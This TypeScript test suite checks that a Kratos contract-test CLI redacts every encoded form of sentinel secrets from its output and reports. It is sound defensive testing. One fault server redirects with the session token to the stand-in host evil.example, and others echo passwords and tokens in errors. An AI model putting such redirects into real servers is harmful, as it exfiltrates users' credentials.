// No secret in any byte the suite writes: the real CLI runs with sentinel secrets against servers that fail in every
// way (each mutant, plus servers that echo the secrets back and break the nodes that carry them), and stdout, stderr
// and every report file are searched for each form of each sentinel (contract-tests/secret-forms.ts).
import {execFile} from 'node:child_process';
import {mkdtemp, readFile, readdir, rm} from 'node:fs/promises';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {fileURLToPath} from 'node:url';
import {describe, expect, test} from 'vitest';
import {mutants, newerKratos} from '../mutation/faults.js';
import {encodedForms, readings} from '../../contract-tests/base/secret-forms.js';
import {type Fault, SECRETS, STAND_IN_IDS, type StandInOptions, json, startStandIn} from '../mutation/stand-in.js';

const root = fileURLToPath(new URL('../..', import.meta.url));
const tsx = join(root, 'node_modules/.bin/tsx');

interface Written {
	readonly code: number | null;
	readonly bytes: string;
}

/** Runs `contract-tests/cli/clone.ts live` against a stand-in and returns its exit code and everything it wrote. */
async function runCli(fault?: Fault, timeoutMs = 5000, options: StandInOptions = {}, args: string[] = []): Promise<Written> {
	const standIn = await startStandIn(fault, options);
	const reports = await mkdtemp(join(tmpdir(), 'contract-secrets-'));
	try {
		const {config} = standIn;
		const env = {
			PATH: process.env.PATH,
			HOME: process.env.HOME,
			CONTRACT_REPORT_DIR: reports,
			KRATOS_PUBLIC_URL: config.publicUrl,
			KRATOS_SESSION_TOKEN: config.sessionToken,
			KRATOS_COOKIE: config.cookie,
			KRATOS_OTHER_SESSION_TOKEN: config.otherSessionToken,
			KRATOS_EXPIRED_FLOW_ID: config.expiredFlowId,
			KRATOS_AAL1_SESSION_TOKEN: config.aal1SessionToken,
			KRATOS_AAL1_FLOW_ID: config.aal1FlowId,
			// The login cases: the owner's password in its refresh flow, the AAL1 identity's TOTP codes.
			KRATOS_TEST_PASSWORD: config.testPassword,
			KRATOS_AAL1_TOTP_SECRET: config.aal1TotpSecret,
			// The updates too: the browser flow's CSRF token travels in their bodies.
			KRATOS_ALLOW_WRITES: '1',
			KRATOS_TEST_IDENTITY_ID: STAND_IN_IDS.owner,
			// The stand-in's own age, given as a user would: the password refusals are then judged strictly.
			KRATOS_PRIVILEGED_SESSION_MAX_AGE: '15m',
			KRATOS_TIMEOUT_MS: String(timeoutMs),
		};
		const {code, stdout, stderr} = await new Promise<{code: number | null; stdout: string; stderr: string}>((resolve) => {
			execFile(tsx, [join(root, 'contract-tests/cli/clone.ts'), 'live', ...args], {env, cwd: root}, (error, stdout, stderr) =>
				resolve({code: error ? ((error as {code?: number}).code ?? 1) : 0, stdout, stderr}),
			);
		});
		const files = await readdir(reports);
		expect(files.sort()).toEqual(['contract-live.html', 'contract-live.xml']);
		const contents = await Promise.all(files.map((file) => readFile(join(reports, file), 'utf8')));
		return {code, bytes: [stdout, stderr, ...contents].join('\n')};
	} finally {
		await standIn.close();
		await rm(reports, {recursive: true, force: true});
	}
}

const escapeHtml = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
/** Inside a JSON string as Go's encoding/json writes it (`\u0026`, `\u003c`, `\u003e`): spelt out, not the list's. */
const goJson = (text: string) => JSON.stringify(text).slice(1, -1).replaceAll('&', '\\u0026').replaceAll('<', '\\u003c').replaceAll('>', '\\u003e');
const twiceUrlEncoded = (text: string) => encodeURIComponent(encodeURIComponent(text));

// Every form of each sentinel (the one list the checks and the redactor share), and each of those as a report would
// write it had the redaction missed it (HTML-escaped once more, JSON-escaped in a string).
const sentinels = Object.entries(SECRETS).map(([name, value]) => [name, [...new Set(encodedForms(value).flatMap(encodedForms))]] as const);

/** No form of any sentinel in the bytes, read as they are and URL-decoded (a form no list foresees). */
function expectNoSecret(bytes: string) {
	const texts = readings(bytes);
	for (const [name, forms] of sentinels) {
		const leaked = forms.find((form) => texts.some((text) => text.includes(form)));
		expect(leaked, `${name} leaked, as ${leaked}`).toBeUndefined();
	}
}

// Servers that put the secrets where a careless report would print them.
const leaky: Record<string, Fault> = {
	'echoes every request header in a 500 HTML page': (answer, {path, request}) =>
		path === '/self-service/settings/flows'
			? {status: 500, headers: {'content-type': 'text/html'}, body: `<pre>${JSON.stringify(request.headers)}</pre>`}
			: answer,
	'echoes the token and cookie in a JSON error reason': (answer, {path, request}) =>
		path === '/self-service/settings/flows' && answer.status !== 200
			? json(400, {error: {code: 400, message: `bad token ${request.headers['x-session-token']} / cookie ${request.headers.cookie}`}})
			: answer,
	'breaks the CSRF node, so the violation quotes it': (answer, {path, request}) => {
		if (path !== '/self-service/settings/flows' || request.method !== 'GET' || answer.status !== 200) return answer;
		const flow = JSON.parse(answer.body);
		delete flow.ui.nodes[0].attributes.disabled;
		return {...answer, body: JSON.stringify(flow)};
	},
	'breaks the TOTP secret node and image, so the violations quote them': (answer, {path, request}) => {
		if (path !== '/self-service/settings/flows' || request.method !== 'GET' || answer.status !== 200) return answer;
		const flow = JSON.parse(answer.body);
		for (const node of flow.ui.nodes) {
			if (node.attributes.id === 'totp_secret_key') delete node.attributes.text.id;
			if (node.attributes.id === 'totp_qr') node.attributes.width = 'wide';
		}
		return {...answer, body: JSON.stringify(flow)};
	},
	'echoes each update body in a 500 JSON error': (answer, {path, body}) =>
		path === '/self-service/settings' ? json(500, {error: {code: 500, message: `could not save ${JSON.stringify(body)}`}}) : answer,
	// The session cookie's value alone, without its name, in every form a page may carry it (as once seen).
	"quotes the session cookie's bare value in a redirect's page": (answer, {path}) =>
		path === '/self-service/settings/flows'
			? {
					status: 302,
					headers: {location: `https://accounts.example/login?v=${encodeURIComponent(SECRETS.cookieValue)}`, 'content-type': 'text/html'},
					body: `<a href="https://accounts.example/login?v=${escapeHtml(SECRETS.cookieValue)}">Found</a> ${SECRETS.cookieValue} ${JSON.stringify({v: SECRETS.cookieValue})}`,
				}
			: answer,
	// The forms the redactor once missed: a Go server's JSON (\u0026, \u003c, \u003e) and a URL inside a URL's query.
	'echoes the session cookie and token Go-JSON-escaped and double-URL-encoded': (answer, {path, request}) => {
		if (path !== '/self-service/settings/flows') return answer;
		const token = String(request.headers['x-session-token'] ?? '');
		const login = `https://accounts.example/login?return_to=${encodeURIComponent(`https://app.example/?v=${encodeURIComponent(SECRETS.cookieValue)}&t=${encodeURIComponent(token)}`)}`;
		return {
			status: 500,
			headers: {'content-type': 'application/json', location: login},
			body: `{"error":{"code":500,"message":"cookie ${goJson(SECRETS.cookieValue)} token ${goJson(token)}","reason":"${twiceUrlEncoded(SECRETS.cookieValue)} ${twiceUrlEncoded(token)}"}}`,
		};
	},
	'returns the token in a Set-Cookie and a redirect Location': (answer, {path, request}) =>
		path === '/self-service/settings/flows'
			? {status: 303, headers: {location: `https://evil.example/?t=${request.headers['x-session-token']}`, 'set-cookie': `leak=${request.headers['x-session-token']}`}, body: ''}
			: answer,
	// The password of a refresh login (KRATOS_TEST_PASSWORD) in every place an answer can quote it.
	'echoes each login body in a 500 JSON error, a header and a redirect': (answer, {path, body}) =>
		path === '/self-service/login' && body
			? {
					status: 500,
					headers: {'content-type': 'application/json', 'x-debug-body': encodeURIComponent(JSON.stringify(body)), location: `https://accounts.example/login?p=${encodeURIComponent(String(body.password ?? ''))}`},
					body: JSON.stringify({error: {code: 500, message: `could not log in ${JSON.stringify(body)}`, reason: goJson(String(body.password ?? ''))}}),
				}
			: answer,
	'refuses every password login with a message quoting the password': (answer, {path, body: sent}) =>
		path === '/self-service/login' && sent?.method === 'password'
			? json(400, {id: '6a2e8b1d-3c4f-4d6e-9f0a-1b2c3d4e5f60', type: 'api', refresh: true, ui: {action: 'x', method: 'POST', nodes: [], messages: [{id: 4000006, type: 'error', text: `the password ${String(sent.password)} is not ${encodeURIComponent(String(sent.password))}`}]}})
			: answer,
};

describe('no secret is ever written', () => {
	test('against a faithful stand-in (the flows carry CSRF and TOTP secrets)', async () => {
		const written = await runCli();
		expect(written.code).toBe(0);
		expectNoSecret(written.bytes);
	});

	test('against a faithful stand-in whose sessions logged in long ago: KRATOS_TEST_PASSWORD refreshes, a new password is set and KRATOS_TEST_PASSWORD put back', async () => {
		const written = await runCli(undefined, 5000, {sessionAgeMs: 2 * 60 * 60 * 1000});
		expect(written.code).toBe(0);
		// The cases that send the password ran (a skipped case would prove nothing).
		expect(written.bytes).toMatch(/^login_refresh_password +200 /m);
		expect(written.bytes).toMatch(/^login_step_up +200 /m);
		expectNoSecret(written.bytes);
	});

	test.each(Object.entries(leaky))('against a server that %s', async (_, fault) => {
		const written = await runCli(fault);
		expect(written.code).toBe(1);
		// The leaky answers arrived (a stand-in that broke down would prove nothing).
		expect(written.bytes).not.toContain('(no answer)');
		expect(written.bytes).toContain('[REDACTED]');
		expectNoSecret(written.bytes);
	});

	test('against a newer Kratos whose drift sits in the secret nodes and headers (warnings quote them)', async () => {
		const written = await runCli((answer, asked) => {
			const newer = newerKratos(answer, asked);
			if (newer === 'hang' || asked.path !== '/self-service/settings/flows' || asked.request.method !== 'GET') return newer;
			// A secret of the flow's own (not a credential the request sent, which no_secret_echo would rightly fail).
			if (newer.status !== 200) return {...newer, headers: {...newer.headers, 'x-csrf-token': SECRETS.csrfToken}};
			const flow = JSON.parse(newer.body);
			flow.ui.nodes[0].attributes.previous_value = SECRETS.csrfToken;
			for (const node of flow.ui.nodes) {
				if (node.attributes.id === 'totp_secret_key') node.attributes.text.copy = SECRETS.totpSecret;
				if (node.attributes.id === 'totp_qr') node.attributes.node_type = 'picture';
			}
			return {...newer, body: JSON.stringify(flow)};
		});
		expect(written.code).toBe(0);
		for (const quoted of ['Undocumented variant', 'At: response › body › ui › nodes › 0 › attributes › previous_value', 'At: response › body › ui › nodes › 5 › attributes › text › copy']) {
			expect(written.bytes).toContain(quoted);
		}
		expect(written.bytes).toContain('x-csrf-token: [REDACTED]');
		expectNoSecret(written.bytes);
	});

	test.each(mutants.filter((mutant) => mutant.localOnly).map((mutant) => [mutant.name, mutant.localOnly] as const))(
		'against the %s mutant, which a run with variables alone cannot reach (it needs %s): its case skipped, said so, nothing leaked',
		async (name) => {
			const written = await runCli(mutants.find((mutant) => mutant.name === name)!.fault);
			expect(written.code).toBe(0);
			expect(written.bytes).toContain("needs another identity's password, which only a Kratos the suite provisions itself knows");
			expectNoSecret(written.bytes);
		},
	);

	test.each(mutants.filter((mutant) => !mutant.localOnly).map((mutant) => [mutant.name, mutant] as const))('against the %s mutant', async (_, mutant) => {
		// A drift mutant fails the run only with --strict, where its warnings are quoted as failures.
		const written = await runCli(mutant.fault, mutant.timeoutMs, mutant.standIn, mutant.strict ? ['--strict'] : []);
		expect(written.code).toBe(1);
		expectNoSecret(written.bytes);
	});
});
